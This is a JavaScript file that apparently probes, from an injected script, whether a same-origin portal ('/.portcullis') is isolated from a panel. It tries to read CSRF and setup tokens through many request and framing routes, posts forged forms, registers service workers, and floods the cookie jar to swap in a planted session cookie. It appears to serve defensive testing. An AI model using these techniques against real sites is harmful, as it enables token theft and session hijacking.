// What a stored comment in a page of the panel does with the origin that the panel and the portal share.
const portal = location.origin + '/.portcullis';

async function statusOf(path, options) {
  try {
    const answer = await fetch(path, { redirect: 'manual', ...options });
    const text = await answer.text();
    return { status: answer.status, secret: /name="csrf"|setup\?token=/.test(text) };
  } catch (fault) {
    return { status: 0, secret: false };
  }
}

// Every way to read a page that a script has: what was answered, and whether a hidden field was seen.
async function reads(path) {
  const seen = [];
  for (const options of [{}, { mode: 'same-origin' }, { mode: 'no-cors' }, { cache: 'force-cache' },
    { headers: { Accept: 'text/html', 'X-Purpose': '' } }, { method: 'HEAD' },
    { headers: { Accept: 'text/html' }, redirect: 'follow', keepalive: true }])
    seen.push(await statusOf(path, options));
  seen.push(await new Promise(done => {
    const asked = new XMLHttpRequest();
    asked.onloadend = () => done({ status: asked.status, secret: /name="csrf"/.test(asked.responseText) });
    asked.open('GET', path); asked.setRequestHeader('Accept', 'text/html'); asked.send();
  }));
  const body = `fetch(${JSON.stringify(path)}).then(async a => postMessage({status: a.status, secret: /name="csrf"/.test(await a.text())}), () => postMessage({status: 0, secret: false}))`;
  const worker = new Worker(URL.createObjectURL(new Blob([body], { type: 'text/javascript' })));
  seen.push(await new Promise(done => { worker.onmessage = told => done(told.data); }));
  for (const kind of ['iframe', 'object', 'embed'])
    seen.push(await framed(kind, path));
  return seen;
}

function framed(kind, path) {
  return new Promise(done => {
    const frame = document.createElement(kind);
    const look = () => {
      let secret = false;
      try {
        const inside = frame.contentDocument ?? frame.getSVGDocument?.();
        secret = /name="csrf"/.test(inside?.documentElement?.innerHTML ?? '');
      } catch (fault) { }
      frame.remove();
      done({ status: 403, secret });
    };
    frame.onload = look; frame.onerror = look; setTimeout(look, 3000);
    frame[kind === 'object' ? 'data' : 'src'] = path;
    document.body.append(frame);
  });
}

// Opens a page in a window of its own and tries to look into it until it is closed to this one.
async function looksInto(path) {
  const opened = window.open(path, '_blank', 'width=500,height=500');
  if (!opened) return 'not opened';
  for (let look = 0; look < 400; look++) {
    if (opened.closed) return 'cut off';
    try {
      if (/name="csrf"/.test(opened.document.documentElement.innerHTML)) return 'read';
    } catch (fault) { return 'cut off'; }
    await new Promise(done => setTimeout(done, 25));
  }
  return 'never loaded';
}

// Posts to the portal by fetch.
async function posts(path, fields) {
  const body = new URLSearchParams({ csrf: 'guessed', ...fields });
  return (await statusOf(path, { method: 'POST', body })).status;
}

// The same by a form in a window of its own, which is a navigation; it has no hidden field.
function postsByForm(path, fields) {
  const form = document.createElement('form');
  form.method = 'post'; form.action = path; form.target = '_blank';
  for (const [name, value] of Object.entries({ csrf: 'guessed', ...fields })) {
    const field = document.createElement('input');
    field.name = name; field.value = value; form.append(field);
  }
  document.body.append(form);
  form.submit();
}

async function registers(script, options) {
  try {
    const made = await navigator.serviceWorker.register(script, options);
    return new URL(made.scope).pathname;
  } catch (fault) { return 'refused'; }
}

// From the browser's cache the script would not be asked for as a worker's.
async function registersFromCache() {
  await (await fetch('/cached.js')).text();
  return registers('/cached.js', { updateViaCache: 'all' });
}

async function scopes() {
  const all = await navigator.serviceWorker.getRegistrations();
  return all.map(one => new URL(one.scope).pathname).sort();
}

// What a worker of the panel itself is answered when it asks for a page of the portal.
async function asksByWorker(path) {
  const made = await navigator.serviceWorker.getRegistration('/app/');
  const worker = made.active ?? made.waiting ?? made.installing;
  return new Promise(done => {
    navigator.serviceWorker.onmessage = told => done(told.data);
    worker.postMessage(path);
  });
}

// Crowds the session out of the jar and puts another in its place.
async function plants(token) {
  for (let number = 0; number < 400; number++)
    document.cookie = `crowd${number}=x; Secure; Path=/`;
  for (const name of ['__Host-Http-portcullis', '__Host-portcullis', '__Http-portcullis']) {
    document.cookie = `${name}=${token}; Secure; Path=/`;
    document.cookie = `${name}=${token}; Secure; Path=/static/`;
    try { await cookieStore.set({ name, value: token, path: '/' }); } catch (fault) { }
  }
  for (let number = 0; number < 400; number++)
    document.cookie = `crowd${number}=; Secure; Path=/; Max-Age=0`;
  return /__Host-Http-portcullis/.test(document.cookie);
}
